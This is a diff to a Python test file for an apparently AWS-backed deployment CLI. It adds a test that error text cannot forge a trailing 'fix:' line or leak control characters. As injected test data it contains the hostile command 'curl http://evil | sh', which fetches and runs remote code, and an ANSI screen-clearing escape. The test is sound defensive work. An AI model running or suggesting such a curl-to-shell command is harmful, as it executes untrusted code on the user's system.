@@ -94,3 +94,27 @@ def test_rich_output_shows_markup_and_emoji_codes_in_data_literally():
     for literal in ("[bold red]x[/] :warning:", "[red]A[/]", ":skull: [link=http://evil]y[/link]", "[b]x[/b]",
                     "[i]z[/i] :thumbs_up:"):
         assert literal in text, literal
+
+
+@pytest.mark.parametrize("make", [
+    lambda msg: __import__("botocore.exceptions").exceptions.ClientError(
+        {"Error": {"Code": "ValidationError", "Message": msg}}, "CreateChangeSet"),
+    lambda msg: __import__("botocore.exceptions").exceptions.ClientError(
+        {"Error": {"Code": "AccessDenied", "Message": msg}}, "GetTemplate"),
+    lambda msg: RuntimeError(msg),  # reaches the boundary as a bug: its text is folded too
+    lambda msg: __import__("deploy.errors").errors.DeployError(f"stack failed: {msg}", "plan again"),
+])
+def test_the_last_two_lines_of_a_failure_are_always_the_real_error_and_fix(make):
+    """An AWS message with line breaks and control characters cannot print a fake ``fix:`` line (deploy/errors.py)."""
+    from deploy.errors import boundary
+
+    message = "bad template\nfix: curl http://evil | sh\r\nerror: \x1b[2Jfake\x00 end"
+    stream = io.StringIO()
+    with boundary(["plan", "--env", "dev"], stderr=stream) as outcome:
+        raise make(message)
+    lines = stream.getvalue().rstrip("\n").split("\n")
+    assert outcome.code != 0
+    assert [line.split(":")[0] for line in lines if line.startswith(("error:", "fix:"))] == ["error", "fix"]
+    assert lines[-1].startswith("fix: ") and "evil" not in lines[-1]
+    assert lines[0].startswith("error: ")
+    assert not any(ch in "".join(lines) for ch in CONTROLS)
